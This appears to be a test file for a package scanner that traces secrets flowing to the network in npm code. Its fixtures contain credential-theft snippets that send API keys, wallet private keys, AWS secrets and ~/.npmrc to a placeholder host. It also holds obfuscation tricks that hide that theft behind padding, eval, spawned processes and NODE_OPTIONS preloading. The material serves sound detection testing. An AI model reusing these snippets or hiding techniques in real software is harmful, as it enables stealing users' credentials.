import t from 'tap'
import { inspectPackage } from '../../../../lib/inspect/inspect-package.ts'

/** Functions that reach nothing, as many as it takes to drown one that does. */
function padding(count: number, line: (name: string) => string): string {
  const one = (_: unknown, at: number): string =>
    `function pad${at}(a, b) { return a > ${at} ? [a, b].join('-') : String(b) }\n${line(`pad${at}`)}`
  return Array.from({ length: count }, one).join('')
}

function flowsOf(text: string): readonly string[] {
  const file = (path: string, content: string) => ({ path, bytes: Buffer.from(content), mode: 0o644 })
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' })
  const files = [file('package.json', manifest), file('index.js', text)]
  const { flows } = inspectPackage({ files, tricks: [], gaps: [], bytes: 0 }, { source: 'registry' })
  return flows.map(({ source, sink }) => `${source.kind} ${source.name} ${sink.kind}`).toSorted()
}

const forms: Readonly<Record<string, { readonly code: string; readonly flows: readonly string[] }>> = {
  'an option of an exported function': {
    code: `const http = require('node:https')
      exports.login = function (options) {
        const request = http.request({ host: 'collector.invalid', method: 'POST' })
        request.end(JSON.stringify({ key: options.apiKey }))
      }
      `,
    flows: ['caller-secret apiKey network'],
  },
  'a wallet that a helper sends': {
    code: `const http = require('node:https')
      function send(text) { http.get('https://collector.invalid/?' + text) }
      exports.sign = (transaction, wallet) => { send(wallet.privateKey); return transaction }
      `,
    flows: ['caller-secret wallet network'],
  },
  'a variable of the environment': {
    code: `const { get } = require('node:https')
      exports.ready = () => get('https://collector.invalid/?' + process.env.AWS_SECRET_ACCESS_KEY)
      `,
    flows: ['env-secret AWS_SECRET_ACCESS_KEY network'],
  },
}

for (const [name, { code, flows }] of Object.entries(forms)) {
  t.same(flowsOf(code), flows, name)
  t.same(flowsOf(padding(600, fn => `exports.${fn} = ${fn}\n`) + code), flows, `${name}, behind 600 exports`)
  t.same(flowsOf(code + padding(600, fn => `exports.${fn} = ${fn}\n`)), flows, `${name}, before 600 exports`)
  t.same(flowsOf(code + padding(16_000, () => '')), flows, `${name}, in a file of more than a megabyte`)
}

/** Harmless things of the same sort before the one that matters: neither their number nor their order may hide it. */
const theft = `fetch('https://collector.invalid/', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') })`
const stolen = 'credential-file ~/.npmrc network'
const quoted = JSON.stringify(theft)

function lines(count: number, line: (at: number) => string): string {
  return Array.from({ length: count }, (_, at) => line(at)).join('\n')
}

const decoys: Readonly<Record<string, string>> = {
  'files that are read into one report': `const fs = require('fs'), all = {}
    for (const path of [${lines(60, at => `'/tmp/x${at}',`)} require('os').homedir() + '/.npmrc']) all[path] = fs.readFileSync(path, 'utf8')
    fetch('https://collector.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
  'paths that one variable may hold': `let path = 'a'
    ${lines(12, at => `if (process.env.X${at}) path = '/tmp/x${at}'`)}
    if (process.env.Y) path = require('os').homedir() + '/.npmrc'
    fetch('https://collector.invalid/', { method: 'POST', body: require('fs').readFileSync(path, 'utf8') })`,
  'calls of a function that reads': `const read = path => require('fs').readFileSync(path, 'utf8')
    ${lines(60, at => `read('/tmp/x${at}')`)}
    fetch('https://collector.invalid/', { method: 'POST', body: read(require('os').homedir() + '/.npmrc') })`,
  'functions of a table': `const table = [${lines(30, at => `() => console.log(${at}),`)} () => ${theft}]
    for (const run of table) run()`,
  'listeners of one event': `const bus = new (require('events'))()
    ${lines(80, at => `bus.on('ready', () => console.log(${at}))`)}
    bus.on('ready', () => ${theft})
    bus.emit('ready')`,
  'a chain of calls': `${lines(300, at => `function f${at}(a) { return f${at + 1}(a) }`)}
    function f300() { return ${theft} }
    f0()`,
  'texts that are evaluated': `for (const text of [${lines(30, at => `'${at}+1',`)} ${quoted}]) eval(text)`,
  'programs that are started': `for (const text of [${lines(6, at => `'${at}',`)} ${quoted}]) require('child_process').spawn('node', ['-e', text])`,
  'two programs of one line': `require('child_process').execSync(${JSON.stringify(`node -e "0"; node -e "${theft}"`)})`,
  'files that are written': `const fs = require('fs')
    ${lines(700, at => `fs.writeFileSync('/tmp/x${at}', 'x')`)}
    fs.writeFileSync('/tmp/z.js', ${quoted})
    require('child_process').fork('/tmp/z.js')`,
  'a file that every program is to load': `require('fs').writeFileSync('/tmp/z.js', ${quoted})
    process.env.NODE_OPTIONS = '--require /tmp/z.js'`,
}

for (const [name, code] of Object.entries(decoys))
  t.ok(flowsOf(code).includes(stolen), `a theft among ${name}`)

t.test('a client that is changed at many places is seen to be changed at the last of them', t => {
  const harmless = Array.from({ length: 80 }, (_, at) => `axios.defaults.mark${at} = ${at}\n`).join('')
  const code = `const axios = require('axios')\n${harmless}axios.defaults.adapter = config => send(config)\n`
  const file = (path: string, content: string) => ({ path, bytes: Buffer.from(content), mode: 0o644 })
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' })
  const files = [file('package.json', manifest), file('index.js', code)]
  const { facts } = inspectPackage({ files, tricks: [], gaps: [], bytes: 0 }, { source: 'registry' })
  t.ok(facts.some(fact => fact.kind === 'patches' && fact.target === 'pkg:axios.defaults.adapter'))
  t.end()
})
